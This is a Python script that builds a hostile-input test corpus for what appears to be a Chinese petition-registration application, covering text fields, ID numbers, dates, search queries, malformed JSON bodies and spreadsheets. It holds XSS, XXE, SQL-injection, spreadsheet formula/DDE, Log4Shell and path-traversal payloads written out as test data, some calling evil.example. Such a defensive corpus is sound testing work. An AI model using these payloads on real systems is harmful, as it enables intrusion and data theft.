"""Write the hostile-input corpus: `python -m tests.corpus.build` (re-run after changing an entry here).

Every entry says what the product must do with it: "stored" (kept exactly as typed, trimmed at the ends) or
"refused" (a clear error naming the field, nothing written). The runners in tests/corpus/test_*.py read only
the files written here, so the corpus is data anyone can extend by hand.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
STORED, REFUSED = "stored", "refused"
# a text that is refused in a single-line field (title) but stored in a multi-line one (content)
LINES = {"title": REFUSED, "content": STORED}
BOTH_STORED = {"title": STORED, "content": STORED}
BOTH_REFUSED = {"title": REFUSED, "content": REFUSED}


def _texts() -> list[dict]:
    out: list[dict] = []

    def add(kind: str, text: str | None = None, expect: dict = BOTH_STORED, *, repeat=None, via=None) -> None:
        row = {"id": f"{kind}-{sum(1 for r in out if r['kind'] == kind) + 1}", "kind": kind}
        row |= {"text": text} if repeat is None else {"repeat": repeat}
        row |= dict(expect)
        if via:
            row["via"] = via
        out.append(row)

    for tag in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert('xss')>",
        "</textarea><script>document.cookie</script>",
        "<iframe src='javascript:alert(1)'></iframe>",
        '<a href="javascript:alert(1)">点我</a>',
        "<b>加粗</b><i>斜体</i>",
        "<style>body{display:none}</style>",
        "&lt;script&gt;已转义&lt;/script&gt;",
        "&#60;script&#62;",
        '<div style="position:fixed;top:0">冒充系统通知</div>',
        "<!-- 注释 --> 物业问题",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "{{7*7}} ${7*7} <%= 7*7 %>",
        '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    ]:
        add("html", tag)
    for md in [
        "# 标题一 ## 标题二",
        "**加粗** 与 _斜体_ 与 ~~删除~~",
        "[点此领取补偿](http://evil.example)",
        "![图](http://evil.example/x.png)",
        "`代码` ```多行代码```",
        ":red[红字] :material/warning: 警告",
        "$\\frac{1}{0}$ 与 $$x^2$$",
        "> 引用 - 列表 1. 有序",
        "| 表 | 格 |\\n|---|---|",
        "\\*不是强调\\* \\\\ 反斜杠",
        "<https://example.com> 自动链接",
        "---",
        "***",
        "[x]: http://evil.example 引用链接",
        "：red[全角冒号] ：material/home：",
    ]:
        add("markdown", md)
    for formula in [
        "=CMD|' /C calc'!A0",
        '=HYPERLINK("http://evil.example","点击")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A9)",
        "=1+1",
        "\t=1+1",
        '=WEBSERVICE("http://evil.example/?"&A1)',
        '=DDE("cmd";"/C calc";"!A0")',
        "＝1+1",
    ]:
        add("formula", formula, LINES if formula.startswith("\t") else BOTH_STORED)
    for sql in [
        '\'; DROP TABLE "case"; --',
        "' OR '1'='1",
        '" OR ""="',
        "1; DELETE FROM case_event",
        "admin'--",
        "%' AND 1=1 AND '%'='",
        'UNION SELECT username, password_hash FROM "user" --',
        "'); INSERT INTO case_fts(case_fts) VALUES('delete-all'); --",
        "\\'; SELECT pg_sleep(10); --",
        "$$; DROP SCHEMA public CASCADE; $$",
    ]:
        add("sql", sql)
    for rtl in [
        "\u202e物业不维修\u202c",
        "abc\u202edcba",
        "\u200f阿拉伯文 مرحبا بالعالم\u200e",
        "עברית 希伯来文",
        "\u2066隔离\u2069 \u2067RTL\u2069",
        "文件.exe\u202egpj.",
        "\u061c阿拉伯字母标记",
        "\u200b零宽空格\u200b",
        "\u200d\u200c零宽连接",
        "\ufeff字节顺序标记开头",
        "\u2028行分隔符",
        "\u2029段分隔符",
        "\u00ad软连字符",
        "\u180e蒙古文元音分隔符",
        "\u3164韩文填充",
    ]:
        add("bidi", rtl)
    for emoji in [
        "电梯坏了😡😡😡",
        "👨‍👩‍👧‍👦 一家四口",
        "🏳️‍🌈 旗帜",
        "👍🏽 肤色",
        "𠀀𠀁𠀂 扩展B区汉字",
        "𪚥𪚥 四龙",
        "𝕿𝖊𝖘𝖙 数学字母",
        "🀄🃏 麻将扑克",
        "\U0001f9d1\u200d\U0001f4bb 程序员",
        "㊙️ ㊗️ 圈字",
        "e\u0301\u0301\u0301 组合符号",
        "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a 乱码",
        "ﷺ 连写",
        "ꦧꦱꦗꦮ 爪哇文",
        "𓀀𓀁 埃及象形文字",
    ]:
        add("emoji", emoji)
    for ctl in ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1f", "\r"]:
        add("control", f"前{ctl}后", BOTH_REFUSED)
    for ctl in ["\n", "\r\n", "\t"]:
        add("control", f"第一行{ctl}第二行", LINES)
    for ctl in ["\x7f", "\x85", "\x9b", "\u0080"]:  # DEL and C1 are printable to the database: kept
        add("control", f"前{ctl}后")
    add("control", "\ud800", BOTH_REFUSED, via=["api"])  # a lone surrogate: no browser sends one
    add("control", "前\udfff后", BOTH_REFUSED, via=["api"])
    for blank in ["", " ", "   ", "\u3000\u3000", "\t", "\n\n"]:
        add("blank", blank, BOTH_REFUSED)
    add("blank", "  两端空格  ")
    add("blank", "\u3000全角空格开头")
    add("length", repeat=["字", 200])
    add("length", repeat=["字", 201], expect={"title": REFUSED, "content": STORED})
    add("length", repeat=["字", 20_000], expect={"title": REFUSED, "content": STORED})
    add("length", repeat=["字", 20_001], expect=BOTH_REFUSED)
    add("length", repeat=["𠀀", 200])  # 200 characters, 800 bytes: the limit counts characters
    add("length", repeat=["a", 1_048_576], expect=BOTH_REFUSED)  # 1 MB
    add("length", repeat=["字", 1_048_576], expect=BOTH_REFUSED)  # 1 M characters, 3 MB
    add("length", repeat=["😀", 5_000], expect={"title": REFUSED, "content": STORED})
    for mixed in [
        "null",
        "None",
        "undefined",
        "NaN",
        "true",
        "0",
        "-1",
        "1e309",
        "[]",
        "{}",
        '""',
        "../../etc/passwd",
        "C:\\Windows\\System32",
        "%00%0d%0a",
        "%s%s%s%n",
        "{0}{1}{name}",
        "${jndi:ldap://evil.example/a}",
        "AAAA" * 50,
        "😀" * 200,
        "ＡＢＣ全角字母１２３",
    ]:
        add("odd", mixed)
    # GBK bytes read as UTF-8 (what a mis-declared file or paste turns into): mojibake, kept as typed
    for word in ["信访事项", "物业维修", "拖欠工资"]:
        add("mojibake", word.encode("gbk").decode("utf-8", errors="replace"))
        add("mojibake", word.encode("gbk").decode("latin-1"))
        add("mojibake", word.encode("utf-8").decode("gbk", errors="replace"))
    return out


def _ids() -> list[dict]:
    good = "11010519491231002X"  # DOMAIN.md §2
    rows = [
        ("valid", good, good),
        ("valid-lowercase-x", "11010519491231002x", good),
        ("valid-spaces", "110105 19491231 002X", good),
        ("valid-fullwidth", "１１０１０５１９４９１２３１００２Ｘ", good),
        ("valid-15", "110105491231002", "110105491231002"),
        ("valid-tab", "\t11010519491231002X", good),
    ]
    out = [
        {"id": name, "id_number": value, "expect": STORED, "stored": stored} for name, value, stored in rows
    ]
    first17 = good[:17]
    for digit in "0123456789":
        if digit != "X":
            out.append({"id": f"check-{digit}", "id_number": first17 + digit, "expect": REFUSED})
    refused = {
        "17-digits": first17,
        "19-digits": good + "1",
        "16-digits": "1101051949123100",
        "14-digits": "11010549123100",
        "15-letters": "11010549123100A",
        "x-in-middle": "1101051949X231002X",
        "born-feb-30": "110105" + "19490230" + "002",
        "born-month-13": "110105" + "19491331" + "002",
        "born-future": "110105" + "20991231" + "002",
        "born-1800": "110105" + "18001231" + "002",
        "15-born-feb-30": "110105490230002",
        "sql": "' OR 1=1 --",
        "html": "<script>1</script>",
        "emoji": "11010519491231002😀",
        "rtl": "\u202e11010519491231002X",
        "zero-width": "110105\u200b19491231002X",
        "negative": "-11010519491231002",
        "float": "1.1010519491231E17",
        "arabic-indic": "١١٠١٠٥١٩٤٩١٢٣١٠٠٢X",
        "words": "身份证号码",
        "too-long": "1" * 21,
    }
    for name, value in refused.items():
        out.append({"id": name, "id_number": value, "expect": REFUSED})
    for row in out:
        row["id"] = "id-" + row["id"]
    return out


def _dates() -> list[dict]:
    # the suite's today is 2026-09-28 (tests/conftest.py); dates before 2000 are no petition of this office
    stored = ["2026-09-28", "2025-03-03", "2024-02-29", "2026-01-01"]
    refused = [
        "2026-09-29", "2099-12-31", "9999-12-31", "2025-02-29", "2025-02-30", "2025-04-31", "2025-13-01",
        "2025-00-10", "2025-01-00", "0000-01-01", "0001-01-01", "1899-12-31", "1970-01-01", "2025-3-3",
        "20250303", "03/03/2025", "2025/03/03", "2025-03-03T10:00:00", "2025-03-03 ", " 2025-03-03",
        "２０２５-０３-０３", "二〇二五年三月三日", "", "today", "+2025-03-03", "2025-W10-1", "2025-062",
        "-2025-03-03", "2025-03-03\u202e", 20250303, None, True, [2025, 3, 3], {"y": 2025},
    ]  # fmt: skip
    out = [{"id": f"date-ok-{i}", "received_on": v, "expect": STORED} for i, v in enumerate(stored, 1)]
    out += [{"id": f"date-bad-{i}", "received_on": v, "expect": REFUSED} for i, v in enumerate(refused, 1)]
    return out


SEARCH = [
    "' OR 1=1 --", "'; DROP TABLE \"case\"; --", "\" OR \"\"=\"", "%", "_", "%%", "\\", "\\\\", "'", "\"",
    "\"\"\"", "*", "物业*", "NEAR(物业 维修)", "物业 NEAR 维修", "AND", "OR", "NOT", "物业 AND 维修",
    "物业 OR", "NOT 物业", "(", ")))", "title:物业", "case_fts:物业", "{title content}: 物业", "^物业",
    "物业 -维修", "+物业", "物业 & 维修", "物业 | 维修", "!物业", "物业 <-> 维修", "物业:*", "物业:A",
    "'物业'", "$$", "--", "/* */", "; SELECT 1", "\x00", "\u202e物业", "😀", "𠀀𠀀", "<script>", "a" * 150,
    "JB-2025-%", "JB-' OR 1=1", "1101051949%", "139%", "   ", "物 业", "ｐｒｏｐｅｒｔｙ", "NULL", "0 OR 1",
]  # fmt: skip


BODIES = {
    # file name -> (raw bytes, the status the API answers)
    "gbk-declared-utf8.json": ('{"title": "信访事项", "content": "物业维修"}'.encode("gbk"), 400),
    "latin1-declared-utf8.json": ('{"title": "café"}'.encode("latin-1"), 400),
    "utf16.json": (
        '{"title": "信访"}'.encode("utf-16"),
        422,
    ),  # JSON may come in UTF-16: read, then refused field by field
    "truncated.json": (b'{"channel": "visit", "title": "\xe4\xbf', 400),
    "array.json": (b"[1, 2, 3]", 400),
    "string.json": (b'"just a string"', 400),
    "number.json": (b"42", 400),
    "null.json": (b"null", 400),
    "empty.json": (b"", 400),
    "nan.json": (b'{"group_size": NaN}', 422),
    "deep.json": (b'{"a":' * 5000 + b"1" + b"}" * 5000, 400),
    "bom-utf8.json": (b"\xef\xbb\xbf{}", 422),
    "nul-bytes.json": (b'{"title": "a\x00b"}', 400),
    "huge-int.json": (
        b'{"group_size": ' + b"9" * 5000 + b"}",
        400,
    ),  # past Python's 4300-digit limit: no JSON number of ours
    "dup-keys.json": (b'{"title": "a", "title": "b"}', 422),
}


def _sheets() -> None:
    """Spreadsheets an office might send: merged cells, formulas, hidden and empty sheets, GBK CSV."""
    folder = HERE / "sheets"
    folder.mkdir(exist_ok=True)
    header = ["登记日期", "来源", "标题", "主要内容", "信访人", "身份证号码", "联系电话"]
    row = [
        "2025-03-03",
        "来访",
        "小区电梯长期故障",
        "电梯停运三个月",
        "王建国",
        "11010519491231002X",
        "13812341234",
    ]

    book = Workbook()
    sheet = book.active
    sheet.append(header)
    sheet.append(row)
    sheet.append(row)
    sheet.merge_cells("A2:A3")
    sheet.merge_cells("C2:D2")
    book.save(folder / "merged-cells.xlsx")

    book = Workbook()
    sheet = book.active
    sheet.append(header)
    sheet.append(["=TODAY()", "来访", "=CMD|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "王建国",
                  "=\"1101051949\"&\"1231002X\"", "=1+13812341233"])  # fmt: skip
    book.save(folder / "formulas.xlsx")

    book = Workbook()
    book.active.title = "说明"
    book.active.append(["本表为登记台账"])
    hidden = book.create_sheet("台账")
    hidden.append(header)
    hidden.append(row)
    hidden.sheet_state = "hidden"
    book.save(folder / "hidden-sheet.xlsx")

    book = Workbook()
    book.create_sheet("空表2")
    book.save(folder / "empty-sheets.xlsx")

    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerow(row)
    (folder / "gbk.csv").write_bytes(text.getvalue().encode("gbk"))
    (folder / "utf8-bom.csv").write_bytes(b"\xef\xbb\xbf" + text.getvalue().encode("utf-8"))
    (folder / "not-a-workbook.xlsx").write_bytes(b"PK\x03\x04 this is no zip")


def _write_lines(name: str, rows: list) -> None:
    with (HERE / name).open("w", encoding="utf-8") as out:
        for row in rows:
            out.write(json.dumps(row, ensure_ascii=True) + "\n")


def main() -> None:
    _write_lines("texts.jsonl", _texts())
    _write_lines("ids.jsonl", _ids())
    _write_lines("dates.jsonl", _dates())
    _write_lines("search.jsonl", [{"id": f"search-{i}", "q": q} for i, q in enumerate(SEARCH, 1)])
    bodies = HERE / "bodies"
    bodies.mkdir(exist_ok=True)
    for name, (raw, _) in BODIES.items():
        (bodies / name).write_bytes(raw)
    _write_lines("bodies.jsonl", [{"file": name, "status": status} for name, (_, status) in BODIES.items()])
    _sheets()


if __name__ == "__main__":
    main()
